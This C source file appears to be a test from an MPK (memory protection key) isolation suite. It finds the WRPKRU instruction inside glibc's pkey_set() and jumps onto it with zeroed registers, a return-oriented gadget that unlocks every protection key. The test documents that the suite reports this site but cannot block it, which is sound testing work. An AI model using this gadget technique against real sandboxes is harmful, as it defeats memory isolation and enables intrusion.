/* Pitfall: a ROP-only site, glibc's pkey_set(): a jump onto its WRPKRU with
 * EAX, ECX and EDX 0 set by the attacker (and a return address on the
 * stack) opens every key.  The scan reports the site as ROP-only and does
 * not refuse: MPK_LOCK_SCAN locks, and the jump still leaks on hw.  An
 * attacker who sets registers also forges a signal frame
 * (t_pit_sigreturn): no lockdown stops either.  n/a without pkey_set (a C
 * library before glibc 2.27); on soft: SIGILL. */
#include "t_gate.h"

#include <dlfcn.h>

static int attempt(void)
{
	const unsigned char *f = dlsym(RTLD_DEFAULT, "pkey_set");
	uintptr_t site = 0;

	for (int i = 0; f && i < 96 && !site; i++)
		if (f[i] == 0x0f && f[i + 1] == 0x01 && f[i + 2] == 0xef)
			site = (uintptr_t)(f + i);
	if (!site)
		return O_NA;
	static volatile uintptr_t to, back;
	to = site;
	back = (uintptr_t)gate_landing;
	/* ...wrpkru; xor %eax, %eax; ret: to the landing, the stack as after
	 * a call */
	__asm__ volatile("andq $-16, %%rsp\n\tsubq $8, %%rsp\n\tpushq %1\n\t"
			 "xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
			 "jmp *%0"
			 : : "m"(to), "m"(back) : "memory");
	__builtin_unreachable();
}

int main(void)
{
	struct pit p = { "ROP onto pkey_set's WRPKRU", attempt, NULL, MPK_LOCK_ERRNO | MPK_LOCK_SCAN,
			 { B(O_LEAKED) | B(O_NA), B(O_SIGILL) | B(O_NA) },
			 { B(O_LEAKED) | B(O_NA), B(O_SIGILL) | B(O_NA) },
			 "ROP-only: reported, not refused; unblockable like a forged frame" };
	return pit_main(&p);
}
